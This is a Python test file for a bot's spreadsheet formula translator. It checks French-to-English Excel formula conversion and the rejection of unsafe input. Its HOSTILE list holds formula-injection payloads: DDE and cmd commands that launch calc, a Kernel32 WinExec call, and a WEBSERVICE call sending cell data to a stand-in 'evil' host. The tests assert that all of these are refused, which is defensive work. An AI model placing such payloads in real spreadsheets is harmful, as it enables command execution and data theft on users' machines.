"""Formulas: what is understood, what is refused, and what is written is what was understood."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.documents.xlsx.formulas import Table, formula
from bot.documents.xlsx.syntax import NotAFormula, parse
from bot.documents.xlsx.writing import written

SHEETS = {"ventes": Table("Ventes 2026", 4, 7), "l'année": Table("L'année", 0, 1)}
OWN = Table("Feuille", 3, 9)
PLAIN = Table("Feuille", 0, 1)


@pytest.mark.parametrize(
    ("source", "file"),
    [
        ("=SUM(C2:C9)", "SUM(C5:C12)"),
        ("B2*18%", "B5*18%"),
        ("=somme(B2:B4;7)", "SUM(B5:B7,7)"),
        ('=SI(B2>0;"oui";"non ""net""")', 'IF(B5>0,"oui","non ""net""")'),
        ("=-B2^2", "(-B5)^2"),
        ("=2^3^2", "2^3^2"),
        ("=1-(2-3)-4", "1-(2-3)-4"),
        ("=(1+2)*3", "(1+2)*3"),
        ("=$B$2+B$2+$B2", "$B$5+B$5+$B5"),
        ('=Ventes!B2 & "x"', "'Ventes 2026'!B6&\"x\""),
        ("='L''année'!A1", "'L''année'!A1"),
        ("=capital*taux/12", "capital*taux/12"),
        ("=VPM(taux/12;48;-capital)", "PMT(taux/12,48,-capital)"),
        ("=A2×B2÷2−1", "A5*B5/2-1"),
        ("=IF(VRAI,1.5e3,0)", "IF(TRUE,1500,0)"),
        ("=SOMME(0,5;B2)", "SUM(0.5,B5)"),  # it was SUM(0,5,B5), five too many
        ("=ARRONDI.SUP(B2*1,18;0)", "ROUNDUP(B5*1.18,0)"),
        ("=SOMME(B2:B4)*0,18", "SUM(B5:B7)*0.18"),
        ("=(B2+0,5)*2", "(B5+0.5)*2"),
        ("=ARRONDI((B2+0,5)*2;1)", "ROUND((B5+0.5)*2,1)"),
        ('=SI(B2>2,5;"1,5; oui";0,5)', 'IF(B5>2.5,"1,5; oui",0.5)'),
        ('=IF(B2>2,5,"a;b")', 'IF(B5>2,5,"a;b")'),
        ("=MAX(1,5)", "MAX(1,5)"),
        ("=MAX(1,5)+0,5", "MAX(1,5)+0.5"),
        ("=SOMME(B:B)", "SUM(B$4:B$12)"),  # a whole column is the table's, without what stands below
        ("=SUM($B:C)", "SUM($B$4:C$12)"),
        ("=SUM(B2:B)", "SUM(B5:B$12)"),
        ('=SUMIF(Ventes!A:A,"x",Ventes!B:B)', "SUMIF('Ventes 2026'!A$5:A$11,\"x\",'Ventes 2026'!B$5:B$11)"),
        ("=ANNÉE(A2)+médiane(B2:B4)", "YEAR(A5)+MEDIAN(B5:B7)"),
        ("=ÉCARTYPE(0,5;B2)", "STDEV(0.5,B5)"),
        ('=MAX.SI.ENS(B2:B4;A2:A4;"x")', '_xlfn.MAXIFS(B5:B7,A5:A7,"x")'),
        ("=_xlfn.MINIFS(B2:B4,A2:A4,A2)", "_xlfn.MINIFS(B5:B7,A5:A7,A5)"),
        ('=RECHERCHEX(A2;B2:B4;C2:C4;"?")', 'IFERROR(INDEX(C5:C7,MATCH(A5,B5:B7,0)),"?")'),
        ('=SI.CONDITIONS(A2>9;"a";VRAI;"b")', 'IF(A5>9,"a",IF(TRUE,"b"))'),
        ("=2*JOURS(B2;A2)", "2*(B5-A5)"),
        ("='L’année'!A1", "'L''année'!A1"),  # as a telephone writes it
        ("='L'année'!A1+'L'année'!B1*2", "'L''année'!A1+'L''année'!B1*2"),
        ("=SOMME('L'année'!B1*1,5;'L'année'!B2)", "SUM('L''année'!B1*1.5,'L''année'!B2)"),  # it was five too many
        ("='L'année'!B1*1,5+'L'année'!B2", "'L''année'!B1*1.5+'L''année'!B2"),
        (
            "=SI('L'année'!A1=\"d'or; 1,5\";Ventes!B2*0,5;'L''année'!B2)",
            "IF('L''année'!A1=\"d'or; 1,5\",'Ventes 2026'!B6*0.5,'L''année'!B2)",
        ),
        ("=SUM('l'anne\u0301e '!A:A)", "SUM('L''année'!A$1:A$1)"),
        ("=VENTES!B2", "'Ventes 2026'!B6"),
    ],
)
def test_what_is_understood_is_written_in_english_with_real_rows(source: str, file: str) -> None:
    assert written(formula(source, SHEETS, OWN)) == file
    assert written(parse(file)) == written(parse(written(parse(file))))


def test_a_formula_is_filled_down_as_excel_does() -> None:
    assert written(formula("=A2+A$2+SUM($B$2:B2)", {}, PLAIN, down=3)) == "A5+A$2+SUM($B$2:B5)"


HOSTILE = [
    '=HYPERLINK("http://evil","clic")',
    '=WEBSERVICE("http://evil/?"&A1)',
    "=cmd|'/c calc'!A0",
    '=DDE("cmd","/c calc","x")',
    "=MSEXCEL|'\\..\\..\\calc.exe'!A1",
    "=[evil.xlsx]Sheet1!A1",
    "='http://evil/[x.xlsx]S'!A1",
    "='\\\\evil\\share\\[x.xlsx]S'!A1",
    '=INDIRECT("A1")',
    '=IMPORTXML("http://evil","//a")',
    '=IMAGE("http://evil/x.png")',
    '=CALL("Kernel32","WinExec","JCJ","calc",0)',
    '=REGISTER.ID("a","b")',
    '=EXEC("calc")',
    '=RTD("x",,"y")',
    '=SUM(HYPERLINK("http://evil"))',
    '=FILTERXML("a","b")',
    "=OFFSET(A1,1,1)",
    '=_xlfn.WEBSERVICE("x")',
    "=LET(x,1,x)",
    "=B2+1,250",
    "=ABS(1,5)",
    "={1,2}",
    "=A1:B2:C3",
    "=Autre!A1",
    "=XFE1",
    "=A0",
    "=A99999999",
    "=SUM(",
    "=1+",
    "=)",
    '="ouvert',
    "=ROUND(1)",
    "=IFS(A1>1,2,3)",
    "=" + "CHOOSE(" * 20 + "A1" + ",1,2)" * 20,
    "=" + "CEILING(A1," * 20 + "5" + ")" * 20,
    "=SUBTOTAL(9,5)",
    "=SUBTOTAL(9,A1:A2*2)",
    "=MAXIFS(A1:A2,3,3)",
    "=_xlfn.WEBSERVICE(A1)",
    "=SUM(AAAA:AAAA)",
    "=SUM(ZZZ:ZZZ)",
    "=SUM(A1:)",
    "=SUM(A1:capital)",
    "=" + "(" * 200 + "1" + ")" * 200,
    "",
    "=\x00",
    "=SUM(A1)SUM(A2)",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_what_reaches_out_or_is_not_understood_is_no_formula(source: str) -> None:
    with pytest.raises(NotAFormula):
        formula(source, SHEETS, OWN)


@pytest.mark.parametrize("source", ['=TEXTE(A1;"jj/mm/aaaa")', '="Le "&TEXT(A1,"yyyy")'])
def test_who_writes_a_number_as_text_is_told_how_else(source: str) -> None:
    with pytest.raises(NotAFormula, match=r"join parts with & from DAY"):
        formula(source, SHEETS, OWN)


@given(st.text(max_size=60))
def test_any_text_is_a_formula_or_refused(source: str) -> None:
    try:
        told = written(formula(source, {}, PLAIN))
    except NotAFormula:
        return
    assert written(parse(told)) == told
